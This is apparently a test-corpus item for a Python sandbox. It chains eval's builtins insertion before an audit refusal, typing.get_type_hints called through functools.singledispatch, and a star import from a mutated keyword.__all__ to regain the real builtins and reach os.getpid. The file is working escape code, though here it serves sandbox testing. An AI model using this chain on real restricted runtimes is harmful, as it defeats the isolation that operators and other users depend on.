# technique: eval(code, globals) stores the caller's builtins in globals['__builtins__'] when it is missing and only then raises the 'exec' audit event that the runtime refuses: the refusal comes after the real builtins dict is in the globals; typing.get_type_hints(module) evaluates the module's string annotations with module.__dict__ as globals, in typing's frame (real builtins), and functools.singledispatch.register(obj) calls it for any object with annotations, so functools.update_wrapper(keyword_view, f) (gives the module view f's annotations) + register(keyword_view) leaves the real builtins dict in the view's namespace; keyword.__all__ is the real module's list (shared by the view, mutable), so appending '__builtins__' and 'from keyword import *' binds the snippet's own __builtins__ global to it, and every function defined after runs with the real builtins: its 'import random' is the real __import__ (the real module, not the view; random._os is os)
# source: side effects before an audit refusal (PEP 578 hooks run after argument processing) + typing.get_type_hints eval (129) + star import binding names listed in a mutable __all__ (131) + rebinding a module's __builtins__ (043-049)
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import functools, keyword


def annotated(x: 'int'):
    pass


@functools.singledispatch
def fun(x):
    return x


functools.update_wrapper(keyword, annotated)  # the view gets annotated's annotations
try:
    fun.register(keyword)  # get_type_hints(keyword view): eval('int', view.__dict__)
except BaseException as e:
    print('register refused as expected:', type(e).__name__, str(e)[:100])

keyword.__all__.append(dn('builtins'))
from keyword import *  # __builtins__ = keyword view's __builtins__: the real builtins dict


def real_module(name):
    # defined after the star import: its builtins are the real ones, and so
    # is the __import__ its import statements call
    import random
    return random


def os_of(self):
    return self._os


def getpid():
    return os_of(real_module('random')).getpid()

attempt("import random in a function defined after 'from keyword import *' -> random._os",
        lambda: os_of(real_module('random')))
print('os.getpid() through it:', getpid())
